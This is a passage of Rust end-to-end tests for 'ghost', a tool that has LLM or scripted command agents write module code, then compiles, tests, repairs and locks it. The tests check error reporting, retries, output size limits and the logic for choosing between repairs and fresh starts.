        "put back in the pipe's place"
    );

    set("own");
    let entry = p.entry("math.double");
    let run = p.ghost(&["build", "--force"]).expect(3);
    assert!(
        run.text()
            .contains("left a named pipe, a device or a folder at `src/math/double/imp.rs` ($GHOST_IMPL_PATH), not a file"),
        "{}",
        run.text()
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
    assert_eq!(p.entry("math.double"), entry);
}

/// An agent program that leaves a folder (or a link) where its code goes has failed that
/// attempt, not the build: the next attempt, told why, writes the file and is accepted
/// (before, the first such attempt ended the module's build with exit 3, attempts left).
#[test]
fn a_folder_left_for_the_code_fails_one_attempt_not_the_build() {
    let _machine = shared();
    let p = Project::new("e2e_command_folder", "", &[DOUBLE]);
    let count = p.outside.join("count");
    let body = format!(
        "#!/bin/sh\ncat > /dev/null\nif [ ! -e '{count}' ]; then touch '{count}'; rm -f \"$GHOST_IMPL_PATH\"; mkdir \"$GHOST_IMPL_PATH\"; exit 0; fi\ncat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\n",
        count = count.display()
    );
    use_command_agent(&p, &body);
    let run = p.ghost(&["build"]).expect(0);
    assert!(
        run.text().contains(
            "left a named pipe, a device or a folder at `src/math/double/imp.rs` ($GHOST_IMPL_PATH), not a file: write the code into the file itself"
        ),
        "{}",
        run.text()
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
    assert_eq!(p.entry("math.double").attempts, 2);
}

/// A failed agent program is told by its last words: the end of its stderr, not all of
/// a chatty program's (shown at every attempt and again at the end), or its stdout when
/// its stderr is empty. The build exits 3: the agent failed.
#[test]
fn a_failed_command_agent_is_told_by_its_last_words() {
    let _machine = shared();
    let p = Project::new("e2e_command_chatty", "", &[DOUBLE]);
    use_command_agent(
        &p,
        "#!/bin/sh\ncat > /dev/null\ni=0\nwhile [ $i -lt 500 ]; do echo \"chatter $i\" >&2; i=$((i+1)); done\necho 'fatal: no model' >&2\nexit 1\n",
    );
    let run = p.ghost(&["build", "--max-attempts", "2"]).expect(3);
    let text = run.text();
    assert!(
        text.contains(
            "the agent program failed (exit status: 1): (its last 20 lines)\nchatter 481\n"
        ) && text.contains("chatter 499\nfatal: no model"),
        "{text}"
    );
    assert!(!text.contains("chatter 480\n"), "{text}");
    assert!(text.lines().count() < 100, "{} lines", text.lines().count());

    use_command_agent(
        &p,
        "#!/bin/sh\ncat > /dev/null\necho 'error: quota spent'\nexit 2\n",
    );
    let run = p.ghost(&["build", "--max-attempts", "1"]).expect(3);
    assert!(
        run.text()
            .contains("the agent program failed (exit status: 2): error: quota spent"),
        "{}",
        run.text()
    );
}

/// A runaway agent program that writes far more than any module's code (here the right
/// code and a comment line of 8 MB, which compiles and passes) is refused before its code
/// is compiled, locked and committed; the locked code stays.
#[test]
fn a_command_agent_writing_a_runaway_file_is_refused() {
    let _machine = shared();
    let p = Project::new("e2e_command_runaway", "", &[DOUBLE]);
    let marker = p.outside.join("runaway");
    let body = format!(
        "#!/bin/sh\ncat > /dev/null\ncat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\nif [ -e '{m}' ]; then head -c 8000000 /dev/zero | tr '\\0' '/' >> \"$GHOST_IMPL_PATH\"; fi\n",
        m = marker.display()
    );
    let run = forced_after_marker(&p, &marker, &body);
    assert!(
        run.text()
            .contains("the code is more than 1 MB, far more than any module's"),
        "{}",
        run.text()
    );
}

/// Builds `p` (its one module `math.double`) with the command agent `body`, which writes
/// the right code until `marker` exists; then makes the marker and builds with `--force`
/// and one attempt, which must fail (exit 3) leaving the locked code and its lock entry
/// as they were. The failed run, for what it says.
fn forced_after_marker(p: &Project, marker: &Path, body: &str) -> Run {
    use_command_agent(p, body);
    p.ghost(&["build"]).expect(0);
    let entry = p.entry("math.double");
    std::fs::write(marker, "").expect("marker");
    let run = p
        .ghost(&["build", "--force", "--max-attempts", "1"])
        .expect(3);
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT, "the old code is kept");
    assert_eq!(p.entry("math.double"), entry);
    run
}

/// A command agent's repair finds in its `imp.rs` what its prompt shows: the failed code
/// without the body it is asked to write anew.
#[test]
fn a_command_agents_repair_reads_the_code_its_prompt_shows() {
    let _machine = shared();
    let p = Project::new("e2e_command_holes", "", &[DOUBLE]);
    let seen = p.outside.join("seen");
    let body = format!(
        "#!/bin/sh\ncat > /dev/null\nif [ -e '{s}' ]; then\n  cp \"$GHOST_IMPL_PATH\" '{s}.imp'\n  cat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\nelse\n  touch '{s}'\n  cat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_WRONG}EOF\nfi\n",
        s = seen.display()
    );
    use_command_agent(&p, &body);
    p.ghost(&["build", "--max-attempts", "2"]).expect(0);
    let shown = std::fs::read_to_string(p.outside.join("seen.imp")).expect("the repair ran");
    assert!(
        shown.contains("// TODO: write this body anew") && !shown.contains("n + 2"),
        "{shown}"
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
}

/// An agent program that runs cargo in its workspace (as coding agents do) leaves a
/// `Cargo.lock` behind: cargo's output, like `target/`, not a file written outside
/// `imp.rs`. The attempt is accepted.
#[test]
fn a_command_agent_may_run_cargo_in_its_workspace() {
    let _machine = shared();
    let p = Project::new("e2e_command_cargo", "", &[DOUBLE]);
    let runs = p.outside.join("runs");
    let body = format!(
        "#!/bin/sh\n\
         echo run >> '{runs}'\n\
         cat > /dev/null\n\
         cat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\n\
         \"${{CARGO:-cargo}}\" generate-lockfile --offline\n",
        runs = runs.display()
    );
    use_command_agent(&p, &body);
    p.ghost(&["build"]).expect(0);
    let runs = std::fs::read_to_string(&runs).expect("the agent ran");
    assert_eq!(runs.lines().count(), 1, "accepted at the first run");
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
}

#[cfg(unix)]
/// Writes `body` as the project's agent program (`agent.sh` beside the project) and
/// configures the command provider to run it.
/// Writes each module's `imp.rs` by hand and locks it (`build --provider manual`).
/// The texts ghost kept under `.ghost/kept/` (code someone else wrote, put back).
/// (Not the compiler-owned files kept, in folders named `TIME-generated`.)
fn kept_texts(p: &Project) -> Vec<String> {
    std::fs::read_dir(p.root.join(".ghost/kept"))
        .expect("kept folder")
        .map(|e| e.expect("entry").path())
        .filter(|dir| !dir.to_string_lossy().ends_with("-generated"))
        .map(|dir| std::fs::read_to_string(dir.join("imp.rs")).expect("kept"))
        .collect()
}

fn locked_by_hand(p: &Project, code: &[(&str, &str)]) {
    for (module, text) in code {
        p.write(&imp_rel(module), text);
    }
    p.ghost(&["build", "--provider", "manual"]).expect(0);
}

fn use_command_agent(p: &Project, body: &str) {
    let agent = p.outside.join("agent.sh");
    std::fs::write(&agent, body).expect("write the agent");
    make_executable(&agent);
    p.configure(
        &format!(
            "provider = \"command\"\ncommand = \"{}\"\n",
            agent.display()
        ),
        "",
    );
}

fn make_executable(path: &Path) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
}

/// Wrong code that writes to stdout itself (libtest does not capture that, so it lands
/// between `test NAME ... ` and `FAILED`): the build still names the failing example
/// with its values, not only "cargo failed".
#[test]
fn a_failing_test_whose_code_writes_to_stdout_is_named_with_its_values() {
    let _machine = shared();
    let p = Project::new("e2e_stdout_writer", "", &[DOUBLE]);
    let chatty = "pub fn double(n: i64) -> i64 {\n    use std::io::Write;\n    let _ = std::io::stdout().write_all(b\"checking\\n\");\n    n + 2\n}\n";
    let body =
        format!("#!/bin/sh\ncat > /dev/null\ncat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{chatty}EOF\n");
    use_command_agent(&p, &body);
    let run = p.ghost(&["build", "--max-attempts", "1"]).expect(3);
    assert!(
        run.stderr.contains("double(-3) == -6") && run.stderr.contains("-1"),
        "the failing example and its values:\n{}",
        run.text()
    );
    assert!(
        run.stderr.contains("1 of 2 failed") && !run.stderr.contains("cargo failed"),
        "{}",
        run.text()
    );
}

/// Every attempt wrong: exit 3, and the last good `imp.rs` and the whole lock stay
/// byte for byte as they were.
#[test]
fn exhausted_attempts_exit_3_and_keep_the_last_good_code() {
    let _machine = shared();
    let server = Background::start_with(script(vec![
        code(DOUBLE_RIGHT),
        code(DOUBLE_WRONG),
        code(DOUBLE_WRONG),
    ]));
    let agent = http_agent("anthropic", &server, false);
    let p = Project::new("e2e_exhausted", &agent, &[DOUBLE]);
    p.ghost(&["build"]).expect(0);
    let imp = p.bytes(&imp_rel("math.double"));
    let lock = p.bytes("ghost.lock");

    p.spec(
        DOUBLE.0,
        &DOUBLE
            .1
            .replace("\"Twice n.\"", "\"Twice n, without overflow checks.\""),
    );
    let run = p.ghost(&["build", "--max-attempts", "1"]).expect(3);
    assert!(run.text().contains("math.double"), "{}", run.text());
    // The closest attempt is left where a person can finish it.
    assert!(
        run.stderr.contains(".ghost/closest/math.double.rs"),
        "{}",
        run.text()
    );
    // Each attempt's result as it comes, then the closing report says why, not only how
    // many tests failed, and where to look on.
    assert!(
        run.stderr.contains("tried math.double (attempt 1)"),
        "{}",
        run.text()
    );
    assert!(
        run.stderr.contains("double(-3) == -6")
            && run.stderr.contains("ghost prompt math.double --repair"),
        "{}",
        run.text()
    );
    let seen = server.server.seen();
    assert_eq!(seen.len(), 2);
    assert!(seen
        .iter()
        .all(|s| s.path == "/v1/messages" && s.json().get("stream").is_none()));
    assert_eq!(p.bytes(&imp_rel("math.double")), imp);
    assert_eq!(p.bytes("ghost.lock"), lock);
    // The last attempt's failure is kept for the repair prompt, though no attempt follows.
    let repair = p.ghost(&["prompt", "math.double", "--repair"]).expect(0);
    assert!(
        repair.text().contains("The body of `double` is taken out")
            && repair.text().contains("double(-3) == -6"),
        "{}",
        repair.text()
    );
}

/// The server refuses the key: no module can succeed, so the build stops at once with
/// exit 3, naming the variable to check (and never printing the key).
#[test]
fn a_refused_key_stops_the_build_with_exit_3() {
    let _machine = shared();
    let server = Background::start_with(script(vec![raw(Answer::json(
        401,
        r#"{"error":{"message":"invalid api key"}}"#,
    ))]));
    let agent = format!("{}concurrency = 1\n", openai(&server));
    let p = Project::new("e2e_refused", &agent, &[DOUBLE, SHOUT]);
    let run = p.ghost(&["build"]).expect(3);
    assert!(run.text().contains(KEY_VAR), "{}", run.text());
    assert_eq!(
        server.server.seen().len(),
        1,
        "the other module is not asked"
    );
    assert!(!p.root.join("ghost.lock").exists());
    // The server's failure says nothing about the modules: the next build starts them
    // from their first prompt, not after "earlier attempts".
    assert!(!p.root.join(".ghost/tried").exists());
    p.assert_no_key();
    let log = p.run_log();
    assert!(
        log.contains("agent_error") && log.contains("invalid api key"),
        "the attempt is logged:\n{log}"
    );
}

/// A server nobody listens on: the build says so in a few words (not the HTTP client's
/// layers), gives the advice once per module that met it (not at every retry), and the
/// module not asked after it points there.
#[test]
fn an_unreachable_server_is_said_in_plain_words_and_not_over_and_over() {
    let _machine = shared();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a free port");
    let addr = listener.local_addr().expect("bound");
    drop(listener);
    let agent = format!(
        "provider = \"openai\"\nmodel = \"test-model\"\nbase_url = \"http://{addr}/v1\"\napi_key_env = \"{KEY_VAR}\"\nconcurrency = 1\n"
    );
    let p = Project::new("e2e_unreachable", &agent, &[DOUBLE, SHOUT]);
    let run = p.ghost(&["build"]).expect(3);
    let text = run.text();
    assert!(
        text.contains(&format!("cannot reach http://{addr}/v1/chat/completions: connection refused; is the server running?")),
        "{text}"
    );
    for raw in [
        "tcp connect error",
        "os error",
        "client error (Connect)",
        "error sending request",
    ] {
        assert!(!text.contains(raw), "{raw}:\n{text}");
    }
    let retries: Vec<&str> = text.lines().filter(|l| l.contains("retrying")).collect();
    assert!(!retries.is_empty(), "{text}");
    assert!(
        retries.iter().all(|l| !l.contains("is the server running")),
        "the advice is not repeated at every retry:\n{text}"
    );
    assert!(text.contains("(gave up after 5 tries)"), "{text}");
    let advice = text.matches("is the server running").count();
    let asked = ["math.double", "text.shout"]
        .into_iter()
        .find(|m| text.contains(&format!("tried {m} (attempt 1)")))
        .expect("one module was asked");
    let other = if asked == "math.double" {
        "text.shout"
    } else {
        "math.double"
    };
    assert!(
        text.contains(&format!(
            "{other}: not asked: the agent failed as it did for `{asked}` (said there)"
        )),
        "{text}"
    );
    // Said for the module that met it (its attempt, its end, the closing list), not for
    // the other.
    assert_eq!(advice, 3, "{text}");
}

/// A prompt template in `.ghost/templates/` (not committed) is used, and the build warns
/// that the lock it writes is stale in every other checkout.
#[test]
fn a_local_template_override_is_used_with_a_warning() {
    let _machine = shared();
    let server = Background::start_with(script(vec![code(DOUBLE_RIGHT)]));
    let p = Project::new("e2e_local_template", &openai(&server), &[DOUBLE]);
    p.write(
        ".ghost/templates/first.tera",
        "Team rules: plain loops.\n{% include \"module.tera\" %}",
    );
    let run = p.ghost(&["build"]).expect(0);
    assert!(
        run.text().contains(".ghost/templates/")
            && run.text().contains("stale in every other checkout"),
        "{}",
        run.text()
    );
    assert!(server.server.seen()[0].prompt().starts_with("Team rules"));
}

/// `max_tokens_per_build` spent after one wrong attempt: no further request, exit 3.
#[test]
fn a_spent_token_budget_stops_asking_with_exit_3() {
    let _machine = shared();
    let server = Background::start_with(script(vec![code(DOUBLE_WRONG), code(DOUBLE_RIGHT)]));
    // Every scripted reply costs 120 tokens.
    let agent = format!("{}max_tokens_per_build = 100\n", openai(&server));
    let p = Project::new("e2e_budget", &agent, &[DOUBLE]);
    let run = p.ghost(&["build"]).expect(3);
    assert!(run.text().contains("token budget"), "{}", run.text());
    assert_eq!(server.server.seen().len(), 1);
}

/// `--locked` on a fresh project passes and runs the tests; after a spec edit it fails
/// naming the module, and never asks the agent.
#[test]
fn locked_runs_the_tests_and_names_what_is_not_fresh() {
    let _machine = shared();
    let server = Background::start_with(script(vec![code(DOUBLE_RIGHT)]));
    let p = Project::new("e2e_locked", &openai(&server), &[DOUBLE]);
    p.ghost(&["build"]).expect(0);

    let run = p.ghost(&["build", "--locked"]).expect(0);
    assert!(
        run.text().contains("2 passed"),
        "the tests ran:\n{}",
        run.text()
    );

    p.spec(
        DOUBLE.0,
        &DOUBLE.1.replace(
            "    example double(2) == 4\n",
            "    example double(2) == 4\n    example double(10) == 20\n",
        ),
    );
    let run = p.ghost(&["build", "--locked"]).expect(1);
    assert!(run.text().contains("math.double"), "{}", run.text());
    assert_eq!(server.server.seen().len(), 1, "--locked never asks");
}

// ---------------------------------------------------------------------------------------
// ghost eval

/// A context-window refusal as llama.cpp's server words it.
fn too_long() -> Step {
    raw(Answer::json(
        400,
        r#"{"error":{"message":"Requested tokens (9100) exceed context window of 8192"}}"#,
    ))
}

/// What the model writes around its code that can only break the build is taken out, and
/// what rustc knows how to fix is fixed, without a second request.
#[test]
fn a_reply_is_tidied_and_fixed_by_rustc_before_a_repair_is_asked() {
    let _machine = shared();
    const SLOPPY: &str = "mod imp {\n    pub fn double(n: i64) -> i64 {\n        let r = 0;\n        r = n * 2;\n        r\n    }\n\n    fn main() {\n        println!(\"{}\", double(2));\n    }\n}\n";
    let (p, seen) = build_green("e2e_tidy", &[DOUBLE], vec![code(SLOPPY)], &[]);
    assert_eq!(seen.len(), 1, "no repair was asked for");
    let imp = p.imp("math.double");
    assert!(imp.contains("let mut r = 0;"), "rustc's fix is in:\n{imp}");
    assert!(
        !imp.contains("fn main") && !imp.contains("mod imp"),
        "{imp}"
    );
    let log = p.run_log();
    assert!(log.contains("\"compiler_fixes\":1"), "{log}");
    assert!(log.contains("dropped `fn main`"), "{log}");
}

/// Small models' usual mistakes that rustc has no fix for (`len` on an iterator, a `str`
/// indexed by a number, a `u8` pushed as a `char`) are fixed by ghost with real rustc
/// diagnostics, before any repair is asked.
#[test]
fn known_mistakes_rustc_cannot_fix_are_fixed_before_a_repair_is_asked() {
    let _machine = shared();
    const WORDS: (&str, &str) = (
        "text/words.ghost",
        r#"module text.words {
  "Words and letters."

  fn parts(s: str) -> int {
    "How many pieces `s` has between its slashes."
    example parts("a/b/c") == 3
  }

  fn initial(s: str) -> str {
    "The first letter of a non-empty ASCII `s`, upper-cased."
    example initial("xy") == "X"
  }
}
"#,
    );
    const SLOPPY: &str = "pub fn parts(s: &str) -> i64 {\n    let pieces = s.split('/');\n    pieces.len() as i64\n}\n\npub fn initial(s: &str) -> String {\n    let mut out = String::new();\n    let first: char = s[0];\n    out.push(first.to_ascii_uppercase() as u8);\n    out\n}\n";
    green_without_a_repair(
        "e2e_known_fixes",
        WORDS,
        SLOPPY,
        "text.words",
        &[
            "pieces.clone().count() as i64",
            "s.chars().nth(0).expect(\"string index out of range\")",
            "out.push(char::from(first.to_ascii_uppercase() as u8));",
        ],
    );
}

/// Code one slip from right (an early return the spec does not ask for, in a helper the
/// failing function calls) is made green by ghost's small edit: no second request, and
/// the run log says what was edited.
#[test]
fn code_one_slip_from_green_is_fixed_by_a_small_edit_without_a_repair() {
    let _machine = shared();
    const SLIP: &str = "pub fn double(n: i64) -> i64 {\n    twice(n)\n}\n\nfn twice(n: i64) -> i64 {\n    if n < 0 {\n        return 0;\n    }\n    n * 2\n}\n";
    let (p, seen) = build_green("e2e_mutant", &[DOUBLE], vec![code(SLIP)], &[]);
    assert_eq!(seen.len(), 1, "no repair was asked for");
    let imp = p.imp("math.double");
    assert!(
        !imp.contains("return 0") && imp.contains("fn twice"),
        "{imp}"
    );
    let log = p.run_log();
    assert!(
        log.contains("\"mutant\":\"deleted `if n < 0 { return 0; }` in `twice`\""),
        "{log}"
    );
}

/// Code that passes only after ghost's own edit is named in the build's report; with
/// `[build] edits = false` no edit is tried, and the agent is asked again.
#[test]
fn ghosts_own_edits_are_named_and_can_be_turned_off() {
    let _machine = shared();
    const SLIP: &str = "pub fn double(n: i64) -> i64 {\n    twice(n)\n}\n\nfn twice(n: i64) -> i64 {\n    if n < 0 {\n        return 0;\n    }\n    n * 2\n}\n";
    let server = Background::start_with(script(vec![code(SLIP)]));
    let p = Project::new("e2e_edits_named", &openai(&server), &[DOUBLE]);
    let run = p.ghost(&["build"]).expect(0);
    assert!(
        run.stderr
            .contains("`math.double` passed after ghost's own edit: deleted `if n < 0 { return 0; }` in `twice`"),
        "{}",
        run.text()
    );

    let server = Background::start_with(script(vec![code(SLIP), code(DOUBLE_RIGHT)]));
    let p = Project::new("e2e_edits_off", "", &[DOUBLE]);
    p.configure(&openai(&server), "edits = false");
    let run = p.ghost(&["build"]).expect(0);
    assert_eq!(
        server.server.seen().len(),
        2,
        "asked again:\n{}",
        run.text()
    );
    assert!(!run.stderr.contains("ghost's own edit"), "{}", run.text());
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
}

/// Builds `spec` with `sloppy` as the agent's only reply: green at the first attempt, no
/// repair asked, and the module's `imp.rs` holds each of `fixed`.
fn green_without_a_repair(
    name: &str,
    spec: (&str, &str),
    sloppy: &'static str,
    module: &str,
    fixed: &[&str],
) {
    let (p, seen) = build_green(name, &[spec], vec![code(sloppy)], &[]);
    assert_eq!(seen.len(), 1, "no repair was asked for");
    let imp = p.imp(module);
    for fixed in fixed {
        assert!(imp.contains(fixed), "`{fixed}` is in:\n{imp}");
    }
}

/// A reply with the mistakes the interface itself rules out (a method taking `mut self`
/// as the spec writes it, a type without `Debug`) and ones ghost fixes after rustc (a
/// `char` in `u8` arithmetic, a `Vec` of references returned as owned values, a
/// closure's parameter used in the body of its loop, where rustc suggests the local
/// `n`) is green without a repair.
#[test]
fn a_reply_tidied_to_the_interface_and_fixed_is_green_at_once() {
    let _machine = shared();
    const TALLY: (&str, &str) = (
        "text/tally.ghost",
        r#"module text.tally {
  "Counts of words."

  type Tally {
    "A count per word."
    fn new() -> Tally
    fn add(mut self, word: str) -> int {
      "Counts `word` once more and returns its count."
    }
    fn top(self) -> list<(str, int)> {
      "Every word with its count, in byte order."
    }
  }

  fn shift(c: str) -> str {
    "The lower-case ASCII letter after `c`'s first (after 'z', 'a')."
    example shift("a") == "b"
    example shift("z") == "a"
  }

  fn letters(words: list<str>) -> int {
    "How many bytes the non-empty words have in all."
    example letters(["ab", "", "c"]) == 3
  }

  scenario "counts" {
    let t = Tally.new()
    expect t.add("b") == 1
    expect t.add("a") == 1
    expect t.add("b") == 2
    expect t.top() == [("a", 1), ("b", 2)]
  }
}
"#,
    );
    const SLOPPY: &str = "use super::*;\n\npub struct Tally {\n    counts: BTreeMap<String, i64>,\n}\n\nimpl Tally {\n    pub fn new() -> Self {\n        Tally { counts: BTreeMap::new() }\n    }\n\n    pub fn add(mut self, word: &str) -> i64 {\n        let n = self.counts.entry(word.to_string()).or_insert(0);\n        *n += 1;\n        *n\n    }\n\n    pub fn top(&self) -> Vec<(String, i64)> {\n        let all = self.counts.iter().collect::<Vec<_>>();\n        all\n    }\n}\n\npub fn shift(c: &str) -> String {\n    let first = c.as_bytes()[0];\n    let next = (first - 'a' + 1) % 26 + b'a';\n    char::from(next).to_string()\n}\n\npub fn letters(words: &[String]) -> i64 {\n    let mut n = 0;\n    for word in words.iter().filter(|w| !w.is_empty()) {\n        n += w.len() as i64;\n    }\n    n\n}\n";
    green_without_a_repair(
        "e2e_tidy_interface",
        TALLY,
        SLOPPY,
        "text.tally",
        &[
            "#[derive(Debug)]\npub struct Tally {",
            "pub fn add(&mut self, word: &str) -> i64 {",
            "(all).into_iter().map(|(x0, x1)| (x0.clone(), x1.clone())).collect::<Vec<_>>()",
            "(first - b'a' + 1) % 26 + b'a'",
            "n += word.len() as i64;",
        ],
    );
}

/// When all the fixes together make things worse (here rustc's own `mut` for a binding
/// of a `for` pattern, which it mangles into a syntax error), each error's fix is tried
/// alone and the first that helps is kept.
#[test]
fn a_fix_that_helps_is_kept_when_all_together_do_not() {
    let _machine = shared();
    const TWO_MISTAKES: &str = "fn count_up() {\n    for (i, _c) in \"ab\".chars().enumerate() {\n        i += 1;\n        let _ = i;\n    }\n}\n\npub fn double(n: i64) -> i64 {\n    let digits = \"1/2\".split('/');\n    let _k = digits.len();\n    count_up();\n    n * 2\n}\n";
    let (p, _) = build_green(
        "e2e_single_fix",
        &[DOUBLE],
        vec![code(TWO_MISTAKES), code(DOUBLE_RIGHT)],
        &[],
    );
    let log = p.run_log();
    let first: serde_json::Value = log
        .lines()
        .next()
        .and_then(|l| serde_json::from_str(l).ok())
        .unwrap_or_default();
    let tested = first["code"].as_str().unwrap_or_default();
    assert!(
        tested.contains("digits.clone().count()"),
        "the fix for `len` is kept:\n{log}"
    );
    assert!(first["compiler_fixes"].as_u64().unwrap_or(0) >= 1, "{log}");
}

/// An attempt that makes nothing better (a repair that made things worse, a fresh start no
/// closer than the best) is followed by a fresh start at a higher temperature, a new sample.
#[test]
fn an_attempt_that_comes_no_closer_is_followed_by_a_fresh_start() {
    let _machine = shared();
    // As close as DOUBLE_WRONG: double(2) passes, double(-3) fails.
    const ALSO_WRONG: &str = DOUBLE_ABS;
    let (p, seen) = build_green(
        "e2e_afresh",
        &[DOUBLE],
        vec![
            code(DOUBLE_WRONG),
            code(DOUBLE_BROKEN),
            code(ALSO_WRONG),
            code(DOUBLE_RIGHT),
        ],
        &["--max-attempts", "4"],
    );
    assert_eq!(seen.len(), 4);
    let temperatures: Vec<f64> = seen
        .iter()
        .map(|s| s.json()["temperature"].as_f64().unwrap_or(-1.0))
        .collect();
    assert_eq!(temperatures[0], 0.0);
    assert!(seen[1].prompt().contains("# Repair"), "attempt 2 repairs");
    for (i, why) in [
        (2, "the repair made things worse"),
        (3, "the fresh start came no closer"),
    ] {
        assert!(
            !seen[i].prompt().contains("# Repair") && temperatures[i] > 0.2,
            "{why}: attempt {} starts afresh, sampling ({temperatures:?})",
            i + 1
        );
    }
    // A fresh start is told what the attempts before it got wrong, without their code.
    let third = seen[2].prompt();
    let lessons = third
        .split("# What earlier attempts got wrong")
        .nth(1)
        .unwrap_or_default();
    assert!(
        lessons.contains("- `example double(-3) == -6` does not hold, left: -1, right: -6")
            && lessons.contains("- did not compile: error[E0277]"),
        "the first attempt's failing example and the repair's compiler error:\n{third}"
    );
    assert!(
        !third.contains("n + 2") && !third.contains("n * \"2\""),
        "no earlier code:\n{third}"
    );
    assert!(
        !seen[0].prompt().contains("What earlier attempts"),
        "the first attempt has no lessons"
    );
    // Two fresh starts send the same prompt: they are two samples, not one cached reply.
    let seeds: Vec<serde_json::Value> = seen.iter().map(|s| s.json()["seed"].clone()).collect();
    assert_eq!(
        seeds[0],
        serde_json::Value::Null,
        "temperature 0 needs no seed"
    );
    assert_ne!(seeds[2], seeds[3], "{seeds:?}");
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
    // The run log says what each attempt asked for.
    let kinds: Vec<String> = p
        .run_log()
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .map(|v| v["kind"].as_str().unwrap_or("?").to_string())
        .collect();
    assert_eq!(kinds, ["first", "repair", "fresh", "fresh"], "{kinds:?}");
}

#[test]
fn a_fresh_start_that_comes_closer_is_repaired() {
    let _machine = shared();
    let (p, seen) = build_green(
        "e2e_afresh_closer",
        &[DOUBLE],
        vec![
            code(DOUBLE_BROKEN),
            code(DOUBLE_BROKEN),
            code(DOUBLE_WRONG),
            code(DOUBLE_RIGHT),
        ],
        &["--max-attempts", "4"],
    );
    assert_eq!(seen.len(), 4);
    assert!(seen[1].prompt().contains("# Repair"), "attempt 2 repairs");
    assert!(
        !seen[2].prompt().contains("# Repair"),
        "the repair gave the same code: attempt 3 starts afresh"
    );
    let fourth = seen[3].prompt();
    let last = fourth
        .split("## Last attempt")
        .nth(1)
        .and_then(|rest| rest.split("```").nth(1))
        .unwrap_or_default();
    assert!(
        last.contains("// TODO: write this body anew")
            && fourth.contains("failed the tests below")
            && fourth.contains("`example double(-3) == -6` does not hold"),
        "the fresh start compiled: attempt 4 repairs its code:\n{fourth}"
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
}

/// Code one function short of green gets a repair asking for that function alone even
/// from a model that hands its repairs back unchanged (whose other attempts start afresh):
/// the other function is kept, and the answer is the one body.
#[test]
fn code_one_function_short_of_green_is_repaired_when_fresh_starts_are_the_rule() {
    let _machine = shared();
    const PAIR: (&str, &str) = (
        "math/pair.ghost",
        r#"module math.pair {
  fn double(n: int) -> int {
    "Twice n."
    example double(2) == 4
    example double(0) == 0
  }

  fn triple(n: int) -> int {
    "Three times n."
    example triple(2) == 6
    example triple(-1) == -3
    example triple(0) == 0
  }
}
"#,
    );
    let both_wrong = "pub fn double(n: i64) -> i64 {\n    n - n\n}\n\npub fn triple(n: i64) -> i64 {\n    n - n\n}\n";
    let triple_wrong = "pub fn double(n: i64) -> i64 {\n    n * 2\n}\n\npub fn triple(n: i64) -> i64 {\n    n * 2\n}\n";
    let triple_closer = "pub fn double(n: i64) -> i64 {\n    n * 2\n}\n\npub fn triple(n: i64) -> i64 {\n    if n == 2 { 6 } else { n * 2 }\n}\n";
    let (p, seen) = build_green(
        "e2e_one_function_short",
        &[PAIR],
        vec![
            code(both_wrong),
            code(both_wrong),
            code(triple_wrong),
            code("pub fn triple(n: i64) -> i64 {\n    n * 2\n}\n"),
            code(triple_closer),
            code("pub fn triple(n: i64) -> i64 {\n    n * 3\n}\n"),
        ],
        &["--max-attempts", "6"],
    );
    let kinds: Vec<bool> = seen
        .iter()
        .map(|s| s.prompt().contains("# Repair"))
        .collect();
    assert_eq!(
        kinds,
        [false, true, false, true, false, true],
        "repairs 2 and 4 come back unchanged, so 5 starts afresh; 6 repairs `triple` alone"
    );
    let last = seen[5].prompt();
    assert!(
        last.contains("The body of `triple` is taken out") && last.contains("n * 2\n}"),
        "{last}"
    );
    assert!(p.imp("math.pair").contains("n * 3"));
}

/// A model that hands this build's repairs back unchanged (twice, and more often than it
/// changes them) gets fresh starts from then on, even after an attempt that came closer.
#[test]
fn a_model_that_repeats_its_repairs_gets_fresh_starts() {
    let _machine = shared();
    const DOUBLE3: (&str, &str) = (
        "math/double.ghost",
        r#"module math.double {
  "Doubling integers."

  fn double(n: int) -> int {
    "Twice n."
    example double(2) == 4
    example double(-3) == -6
    example double(0) == 0
  }
}
"#,
    );
    // Fails two of the three examples; ONE_WRONG fails one.
    const TWO_WRONG: &str = DOUBLE_WRONG;
    const ONE_WRONG: &str = DOUBLE_ABS;
    let (p, seen) = build_green(
        "e2e_repeats",
        &[DOUBLE3],
        vec![
            code(DOUBLE_BROKEN),
            code(DOUBLE_BROKEN),
            code(TWO_WRONG),
            code(TWO_WRONG),
            code(ONE_WRONG),
            code(DOUBLE_RIGHT),
        ],
        &["--max-attempts", "6"],
    );
    assert_eq!(seen.len(), 6);
    let repairs: Vec<bool> = seen
        .iter()
        .map(|s| s.prompt().contains("# Repair"))
        .collect();
    assert_eq!(
        repairs,
        [false, true, false, true, false, false],
        "attempts 2 and 4 repair and get their code back; attempt 5 came closer, yet \
         attempt 6 starts afresh"
    );
    let temperature = seen[5].json()["temperature"].as_f64().unwrap_or(-1.0);
    assert!(temperature > 0.2, "a fresh start samples: {temperature}");
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
}

/// A server that counts the reply's room against its window may find even the first
/// prompt too long: that prompt cannot be cut, so the next request leaves the reply less
/// room (halved), instead of asking the same again.
#[test]
fn a_first_prompt_too_long_for_the_server_is_asked_again_with_less_room_for_the_reply() {
    let _machine = shared();
    let server = Background::start_with(script(vec![too_long(), code(DOUBLE_RIGHT)]));
    let agent = format!("{}context_window = 8192\n", openai(&server));
    let p = Project::new("e2e_reply_halved", &agent, &[DOUBLE]);
    p.ghost(&["build"]).expect(0);
